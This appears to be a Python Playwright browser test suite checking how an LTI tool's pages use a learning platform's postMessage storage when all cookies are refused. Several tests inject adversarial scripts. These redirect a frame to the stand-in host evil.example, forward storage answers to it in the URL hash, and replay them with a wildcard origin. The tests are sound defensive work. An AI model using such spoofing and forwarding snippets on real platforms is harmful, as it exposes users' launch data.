"""What the tool's pages say to a platform's storage, and which answers they believe, where every cookie is refused.

The platform's scripts are replaced by others, or its frame is called otherwise; what the server makes of a proof is
tested in ``tests/certification/test_platform_storage.py``.
"""

from __future__ import annotations

import datetime as dt
import html
import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from lti_tool.demo.lms import oidc
from lti_tool.web.launch import platform_storage
from tests.browser.conftest import Platforms
from tests.browser.demo_course import TUTOR, DemoCourse
from tests.requirements import needs_chromium

pytestmark = needs_chromium


@pytest.fixture
def canvas(platforms: Platforms, every_cookie_refused: BrowserContext) -> Iterator[DemoCourse]:
    """The course in Canvas, in a browser that refuses every cookie of the tool."""
    yield DemoCourse(platforms["canvas"], every_cookie_refused)
    every_cookie_refused.unroute_all()
    for page in every_cookie_refused.pages[1:]:
        page.close()


@pytest.fixture
def short_wait(monkeypatch: pytest.MonkeyPatch) -> None:
    """The tool's pages wait for the platform's answers less long."""
    monkeypatch.setattr(platform_storage, "ANSWER_WITHIN", dt.timedelta(milliseconds=400))


def replace_script(course: DemoCourse, name: str, script: str) -> None:
    course.context.route(
        f"**/static/{name}", lambda route: route.fulfill(body=script, content_type="text/javascript")
    )


def expect_storage(page: Page) -> None:
    """The launch opened in its frame, by its address alone."""
    page.frame_locator("iframe.tool").locator("#cohort").wait_for()
    frame = next(frame for frame in page.frames if "/l/" in frame.url)
    assert "." in frame.url.partition("/l/")[2]


ANSWERS = {
    "not at all": "",
    "to another message": "say({ message_id: 'another' })",
    "of another subject": "say({ subject: 'lti.capabilities.response' })",
    "with an error": "say({ error: { code: 'storage_exhaustion' } })",
    "that it is kept, then with an error": "say(data.value ? {} : { error: { code: 'error' } })",
    "that it is kept, then not at all": "if (data.value) say({})",
    "that it is kept, then with no value": "say(data.value ? {} : { value: null })",
    "that it is kept, then with no text": "say(data.value ? {} : { value: [kept] })",
    "that it is kept, then with another value": "say(data.value ? {} : { value: 'A'.repeat(43) })",
    "that it is kept, then too late": "if (data.value) say({}); else setTimeout(() => say({}), 3000)",
}
"""What a page of the platform does that knows the right value: all else that it says is right."""


@pytest.mark.usefixtures("short_wait")
@pytest.mark.parametrize("answer", ANSWERS.values(), ids=list(ANSWERS))
def test_one_click_to_a_new_tab_is_left_when_the_platform_answers(canvas: DemoCourse, answer: str) -> None:
    replace_script(
        canvas,
        "canvas_forwarding.js",
        "let kept; addEventListener('message', ({ source, origin, data }) => { kept ??= data.value;"
        " const say = (said) => source.postMessage({"
        "  subject: `${data.subject}.response`, message_id: data.message_id, value: kept, ...said }, origin);"
        f" {answer} }});",
    )
    frame = canvas.open_activity(canvas.page(), TUTOR)
    expect(frame.get_by_role("heading", level=1)).to_have_text("Open this page in a new tab")
    expect(frame.locator("a[target=_blank]")).to_be_visible()


@pytest.mark.usefixtures("short_wait")
def test_an_answer_of_another_window_is_not_believed(canvas: DemoCourse) -> None:
    # The page itself answers instead of the frame that was asked, of the same origin and with the right id.
    replace_script(
        canvas,
        "canvas_storage.js",
        "let kept; addEventListener('message', ({ data }) => { if (!data.message_id) return; kept ??= data.value;"
        " document.querySelector('iframe.tool').contentWindow.postMessage("
        " { subject: `${data.subject}.response`, message_id: data.message_id, key: data.key, value: kept },"
        " '*'); });",
    )
    frame = canvas.open_activity(canvas.page(), TUTOR)
    expect(frame.get_by_role("heading", level=1)).to_have_text("Open this page in a new tab")


@pytest.mark.usefixtures("short_wait")
def test_a_frame_of_another_origin_is_told_nothing(canvas: DemoCourse) -> None:
    canvas.context.route(
        "**/post_message_forwarding",
        lambda route: route.fulfill(
            body="<script>location.replace('http://evil.example/')</script>", content_type="text/html"
        ),
    )
    canvas.context.route(
        "http://evil.example/**",
        lambda route: route.fulfill(
            body="<script>window.heard = []; addEventListener('message', (e) => heard.push(e.data));</script>",
            content_type="text/html",
        ),
    )
    page = canvas.page()
    frame = canvas.open_activity(page, TUTOR)
    expect(frame.get_by_role("heading", level=1)).to_have_text("Open this page in a new tab")
    evil = next(frame for frame in page.frames if "evil.example" in frame.url)
    assert evil.evaluate("window.heard") == []


@pytest.mark.usefixtures("short_wait")
def test_an_answer_of_another_origin_is_not_believed(canvas: DemoCourse) -> None:
    # The frame that was asked leads to another site, which knows all that the answer has to say.
    replace_script(
        canvas,
        "canvas_forwarding.js",
        "let kept; addEventListener('message', ({ source, origin, data }) => { kept ??= data.value;"
        " const said = { subject: `${data.subject}.response`, message_id: data.message_id, value: kept };"
        " if (data.value) source.postMessage(said, origin);"
        " else location.replace(`http://evil.example/#${encodeURIComponent(JSON.stringify(said))}`); });",
    )
    canvas.context.route(
        "http://evil.example/**",
        lambda route: route.fulfill(
            body="<script>parent.frames[0].postMessage("
            "JSON.parse(decodeURIComponent(location.hash.slice(1))), '*')</script>",
            content_type="text/html",
        ),
    )
    page = canvas.page()
    frame = canvas.open_activity(page, TUTOR)
    expect(frame.get_by_role("heading", level=1)).to_have_text("Open this page in a new tab")
    assert any("evil.example" in frame.url for frame in page.frames)


@pytest.mark.parametrize("target", ["_parent", "opener", "no-such-frame", "location", "then", "length"])
def test_without_a_frame_of_that_name_the_page_around_the_tool_is_asked(
    canvas: DemoCourse, monkeypatch: pytest.MonkeyPatch, target: str
) -> None:
    monkeypatch.setattr(oidc, "STORAGE_TARGET", target)
    page = canvas.page()
    canvas.open_activity(page, TUTOR)
    expect_storage(page)


def test_a_window_that_the_platform_opened_asks_it_too(canvas: DemoCourse) -> None:
    page = canvas.page()
    canvas.open_activity(page, TUTOR)
    expect_storage(page)
    with canvas.context.expect_page() as opened:
        page.evaluate("() => { window.open('/launch/1?target=window'); }")
    opened.value.wait_for_url("**/l/*.*/")


def test_two_tabs_at_once_open_both_and_leave_nothing_behind(canvas: DemoCourse) -> None:
    first, second = canvas.page(), canvas.page()
    canvas.log_in_as(first, TUTOR)
    activity = f"{canvas.demo_settings.lms_url}/activities/1"
    for page in (first, second):
        page.goto(activity, wait_until="commit")
    for page in (second, first):
        page.bring_to_front()
        expect_storage(page)
    kept = first.evaluate("Object.keys(localStorage).filter((key) => key.includes('platform_storage'))")
    assert kept == []


def test_the_content_picker_opens_and_answers_in_its_frame(canvas: DemoCourse) -> None:
    page = canvas.page()
    canvas.log_in_as(page, TUTOR)
    page.goto(f"{canvas.demo_settings.lms_url}/activities/new")
    page.locator("a[href*='placement=']").first.click()
    picker = page.frame_locator("iframe.tool")
    picker.locator(".further-choices:has(#title) > summary").click()
    picker.locator("#title").fill("In the frame")
    picker.locator("#next").click()
    expect(picker.locator("button[value=template]")).to_be_visible()
    picker.locator("#send").click()
    expect(page.get_by_role("link", name="In the frame", exact=True)).to_be_visible()


def test_without_scripts_the_first_page_has_a_link_to_go_on(browser: Browser, platforms: Platforms) -> None:
    canvas = platforms["canvas"]
    page = browser.new_page(java_script_enabled=False)
    page.goto(f"{canvas.lms_url}/")
    page.get_by_role("button", name=TUTOR).click()
    page.goto(f"{canvas.lms_url}/launch/1")
    page.get_by_role("button").click()
    link = page.locator("a[data-storage=put]")
    expect(link).to_be_visible()
    assert re.match(canvas.lms_url, html.unescape(link.get_attribute("href") or ""))
    page.close()
